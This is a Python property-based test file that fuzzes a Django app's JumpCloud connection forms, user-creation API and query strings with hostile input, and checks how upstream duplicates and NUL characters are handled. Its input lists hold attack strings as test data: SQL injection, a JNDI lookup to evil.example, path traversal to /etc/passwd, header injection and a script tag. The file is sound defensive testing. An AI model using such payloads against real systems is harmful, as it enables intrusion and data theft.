"""Property 7: bad input gets a clear error and loses nothing.

Forms and the API are fed hostile and odd input (huge strings, odd Unicode, NUL characters, wrong
types, out-of-range numbers): never a 5xx, always an error the user can act on, and nothing written
half-way (no connection, no audit record, no request to JumpCloud). Upstream data that breaks the
rules (duplicate ids within a page, NUL characters) is stored once and cleanly.

The parsers' own property tests are tests/jumpcloud/test_parsing_properties.py; the schemathesis
fuzz of every API operation is tests/api/test_schema_fuzz.py (the API engineer's).
"""

from __future__ import annotations

import json
import uuid
from typing import Any

import pytest
from django.urls import reverse
from hypothesis import HealthCheck, given
from hypothesis import settings as hsettings
from hypothesis import strategies as st
from rest_framework.test import APIClient

from integrations.models import ActionRun, AppUser, Connection, SyncRun, UsageEvent
from integrations.services.sync import sync_run_execute, sync_run_request
from jumpcloud.simulator.api import Response
from tests.security.support import all_routes, body_of, make_world, state_snapshot, view_methods

FUZZ = hsettings(
    max_examples=40,
    deadline=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)

odd_text = st.one_of(
    st.text(max_size=40),
    st.text(alphabet=st.characters(codec="utf-8"), min_size=1, max_size=30),
    st.sampled_from(
        [
            "\x00",
            "a\x00b",
            "\u202e\u0041dmin",
            "\ufeff",
            "\ud7ff",
            "👩\u200d💻",
            "Ａｄｍｉｎ",
            "x" * 5000,
            " " * 300,
            "'; DROP TABLE integrations_connection; --",
            "%s%s%n",
            "{{7*7}}",
            "${jndi:ldap://evil.example/a}",
            "../../etc/passwd",
            "\r\nSet-Cookie: x=1",
            "<script>alert(1)</script>",
            "NaN",
            "-1",
            "0" * 40,
        ]
    ),
)
wrong_types = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(allow_nan=True),
    st.lists(st.text(max_size=5), max_size=3),
    st.dictionaries(st.text(max_size=5), st.text(max_size=5), max_size=2),
    odd_text,
)


def refused_cleanly(response: Any) -> None:
    assert response.status_code < 500, body_of(response)[:2000]


# --- the connect form ------------------------------------------------------------------------------
@pytest.mark.django_db
@FUZZ
@given(
    data=st.fixed_dictionaries(
        {
            "api_key": odd_text,
            "org_id": odd_text,
            "name": odd_text,
            "region": st.one_of(st.sampled_from(["us", "eu", "in"]), odd_text),
            "permission": st.one_of(st.sampled_from(["read_only", "read_write"]), odd_text),
        }
    )
)
def test_the_connect_form_survives_any_input(admin_client, allow_sim, settings, data):
    settings.CONNECT_ATTEMPTS_PER_HOUR = 10_000
    data = {**data, "base_url": allow_sim.base_url}
    writes_before = [r for r in allow_sim.requests if r.method != "GET"]
    response = admin_client.post(reverse("dashboard:connect", args=["jumpcloud"]), data)
    refused_cleanly(response)
    assert response.status_code in (400, 429), response.status_code  # no valid key in these inputs
    form = response.context["form"]
    assert form.errors, "a refusal says why"
    # Nothing saved but the audit record of a failed attempt (and never the key in it).
    assert not Connection.objects.exists()
    assert not ActionRun.objects.exclude(action="connection.connect_failed", status="failed").exists()
    assert [r for r in allow_sim.requests if r.method != "GET"] == writes_before


@pytest.mark.django_db
@FUZZ
@given(api_key=odd_text, name=odd_text, interval=st.one_of(wrong_types, st.integers()))
def test_editing_and_rotating_survive_any_input(admin_client, allow_sim, settings, api_key, name, interval):
    from tests.factories import ConnectionFactory

    settings.CONNECT_ATTEMPTS_PER_HOUR = 10_000
    connection = ConnectionFactory(
        base_url=allow_sim.base_url, region="custom", org_id=allow_sim.org_ids["primary"]
    )
    try:
        before = state_snapshot()
        response = admin_client.post(
            reverse("dashboard:connection_rotate_key", args=[connection.pk]), {"api_key": api_key}
        )
        refused_cleanly(response)
        assert response.status_code in (400, 429)
        assert response.context["form"].errors
        assert state_snapshot() == before
        response = admin_client.post(
            reverse("dashboard:connection_edit", args=[connection.pk]),
            {
                "name": name,
                "permission": "read_only",
                "events_interval_minutes": str(interval),
                "full_sync_interval_hours": str(interval),
            },
        )
        refused_cleanly(response)
        if response.status_code != 302:
            assert response.context["form"].errors
            assert state_snapshot() == before
    finally:
        connection.delete()


# --- creating users ------------------------------------------------------------------------------
@pytest.fixture
def world(allow_sim):
    return make_world(allow_sim, users=3)


def _writes(sim) -> list[Any]:
    return [r for r in sim.requests if r.method != "GET"]


@pytest.mark.django_db
@FUZZ
@given(
    fields=st.fixed_dictionaries(
        {
            "first_name": odd_text,
            "last_name": odd_text,
            "email": odd_text,
            "username": odd_text,
            "state": st.one_of(st.sampled_from(["", "ACTIVATED", "STAGED"]), odd_text),
        }
    )
)
def test_the_create_user_form_survives_any_input(admin_client, world, allow_sim, fields):
    allow_sim.clear_requests()
    runs = ActionRun.objects.count()
    data = {**fields, "connection": world.connection.pk, "idempotency_key": uuid.uuid4().hex}
    response = admin_client.post(reverse("dashboard:user_create_submit"), data)
    refused_cleanly(response)
    if response.status_code in (400, 409):
        assert response.context["form"].errors, "a refusal says why, next to the field"
        assert ActionRun.objects.count() == runs, "a refused request records nothing"
        assert _writes(allow_sim) == [], "a refused request sends nothing"
    else:
        # Accepted (JumpCloud may still refuse it): exactly one audit record, at most one write.
        assert ActionRun.objects.count() == runs + 1
        assert len(_writes(allow_sim)) <= 1


@pytest.mark.django_db
@FUZZ
@given(
    body=st.one_of(
        st.dictionaries(
            st.sampled_from(["connection", "first_name", "last_name", "email", "username", "state"]),
            wrong_types,
            max_size=6,
        ),
        st.fixed_dictionaries({"connection": wrong_types, "email": odd_text, "username": odd_text}),
    ),
    key=st.one_of(st.just(None), odd_text),
)
def test_the_create_user_api_survives_any_input(admin_user, world, allow_sim, body, key):
    api = APIClient()
    api.force_login(admin_user)
    allow_sim.clear_requests()
    runs = ActionRun.objects.count()
    headers = {} if key is None or any(c in key for c in "\r\n\x00") else {"HTTP_IDEMPOTENCY_KEY": key}
    response = api.post("/api/v1/actions/create-user/", body, format="json", **headers)
    refused_cleanly(response)
    if response.status_code >= 400:
        payload = response.json()
        assert payload.get("detail"), payload
        assert ActionRun.objects.count() == runs
        assert _writes(allow_sim) == []


@pytest.mark.django_db
def test_the_api_refuses_bodies_that_are_not_json_objects(admin_user, world, allow_sim):
    api = APIClient()
    api.force_login(admin_user)
    before = state_snapshot()
    routes = [r for r in all_routes() if r.is_api and {"POST", "PUT", "PATCH"} & view_methods(r)]
    assert routes
    for route in routes:
        url = route.reverse(world)
        for raw in (
            b"[]",
            b"null",
            b"42",
            b'"x"',
            b"{",
            b"\xff\xfe",
            b'{"user": ' + b"9" * 400 + b"}",
            json.dumps({"user": 2**70, "connection": -1}).encode(),
            b"{" * 5000 + b"}" * 5000,
        ):
            response = api.generic(
                "POST", url, raw, content_type="application/json", HTTP_IDEMPOTENCY_KEY=str(uuid.uuid4())
            )
            assert response.status_code in (400, 403, 405, 409, 415, 422), (
                url,
                raw[:40],
                response.status_code,
            )
    assert state_snapshot() == before
    assert _writes(allow_sim) == []


# --- query strings ---------------------------------------------------------------------------------
ODD_PARAMS = [
    "\x00",
    "-1",
    "99999999999999999999999",
    "1e309",
    "NaN",
    "abc",
    "x" * 3000,
    "2024-02-30",
    "' OR 1=1 --",
    "-",
    "—",
]
PARAMS = [
    "q",
    "page",
    "per_page",
    "ordering",
    "connection",
    "status",
    "role",
    "app",
    "inactive_days",
    "days",
    "window",
    "admin_days",
    "kind",
    "application",
    "date_from",
    "date_to",
    "action",
    "category",
    "actor",
    "target",
    "since",
    "until",
    "cursor",
    "search",
    "is_admin",
    "user",
    "limit",
    "offset",
    "format",
]


@pytest.mark.django_db
def test_no_page_or_api_list_fails_on_odd_query_strings(admin_user, world):
    from django.test import Client

    browser = Client(raise_request_exception=False)
    browser.force_login(admin_user)
    api = APIClient(raise_request_exception=False)
    api.force_login(admin_user)
    failures = []
    for route in all_routes():
        methods = view_methods(route)
        if methods and "GET" not in methods or route.name == "logout":
            continue
        url = route.reverse(world)
        client = api if route.is_api else browser
        # Every parameter at once with each odd value, then the worst values one parameter at a time
        # (a parameter validated first must not hide another).
        queries = [{p: value for p in PARAMS} for value in ODD_PARAMS]
        if not route.params:  # list pages: also one parameter at a time
            queries += [{p: value} for p in PARAMS for value in ("\x00", "99999999999999999999999")]
        for query in queries:
            response = client.get(url, query)
            if response.status_code >= 500:
                failures.append(f"{url}?{str(query)[:80]} → {response.status_code}")
    assert not failures, "\n".join(failures[:40])


# --- upstream data that breaks the rules -------------------------------------------------------
def _doctor(sim, monkeypatch, path_prefix: str, change) -> None:
    """Let the simulator answer, then rewrite the JSON body of matching responses."""
    real = sim._api.handle

    def handle(req, malform=None):
        response = real(req) if malform is None else real(req, malform)
        if req.path.startswith(path_prefix) and response.status == 200 and response.body:
            body = change(json.loads(response.body))
            return Response(200, json.dumps(body).encode(), dict(response.headers))
        return response

    monkeypatch.setattr(sim._api, "handle", handle)


def _sync(connection: Connection) -> SyncRun:
    run = sync_run_request(connection=connection, kind="full", trigger="manual", enqueue=False)
    return sync_run_execute(run_id=run.pk)


@pytest.mark.django_db(transaction=True)
def test_duplicate_ids_within_a_page_are_stored_once(connect_sim, monkeypatch):
    sim, connection = connect_sim

    def duplicate(body: Any) -> Any:
        if isinstance(body, dict) and body.get("results"):
            body["results"] = body["results"] + body["results"][:3]  # the first three again
        elif isinstance(body, list) and body:
            body = body + body[:3]
        return body

    for prefix in (
        "/api/systemusers",
        "/api/applications",
        "/api/users",
        "/api/v2/applications/",
        "/insights/directory/v1/events",
    ):
        _doctor(sim, monkeypatch, prefix, duplicate)
    run = _sync(connection)
    assert run.status in (SyncRun.Status.SUCCEEDED, SyncRun.Status.PARTIAL), run.error_message
    tenant = sim.tenant("primary")
    directory = AppUser.objects.filter(connection=connection, application__kind="directory", kind="user")
    assert directory.count() == len(tenant.users)
    assert directory.values("external_id").distinct().count() == len(tenant.users)
    assert (
        UsageEvent.objects.filter(connection=connection).count()
        == UsageEvent.objects.filter(connection=connection).values("external_id").distinct().count()
    )


@pytest.mark.django_db(transaction=True)
def test_nul_characters_from_upstream_do_not_break_a_sync(connect_sim, monkeypatch):
    sim, connection = connect_sim

    def poison(body: Any) -> Any:
        records = body.get("results", [body]) if isinstance(body, dict) else body
        for record in records if isinstance(records, list) else []:
            if isinstance(record, dict):
                for key in (
                    "firstname",
                    "lastname",
                    "displayname",
                    "department",
                    "displayLabel",
                    "error_message",
                    "client_ip",
                    "displayName",
                ):
                    if key in record:
                        record[key] = f"A\x00B {record.get(key) or ''}"
        return body

    for prefix in (
        "/api/systemusers",
        "/api/applications",
        "/insights/directory/v1/events",
        "/api/organizations",
    ):
        _doctor(sim, monkeypatch, prefix, poison)
    run = _sync(connection)
    assert run.status in (SyncRun.Status.SUCCEEDED, SyncRun.Status.PARTIAL), run.error_message
    assert AppUser.objects.filter(connection=connection, application__kind="directory").count() >= 10
    names = AppUser.objects.filter(connection=connection).values_list("first_name", flat=True)
    assert any(name.startswith("A\ufffdB") for name in names), "the value is kept, its NUL replaced"
    assert not any("\x00" in name for name in names)
    connection.refresh_from_db()
    assert "\x00" not in connection.org_name


@pytest.fixture
def connect_sim(allow_sim, db):
    from integrations.services.connections import connection_create

    connection = connection_create(
        provider_key="jumpcloud",
        name="Acme",
        credentials={"api_key": allow_sim.keys["admin"]},
        permission="read_only",
        base_url=allow_sim.base_url,
        start_sync=False,
    )
    return allow_sim, connection
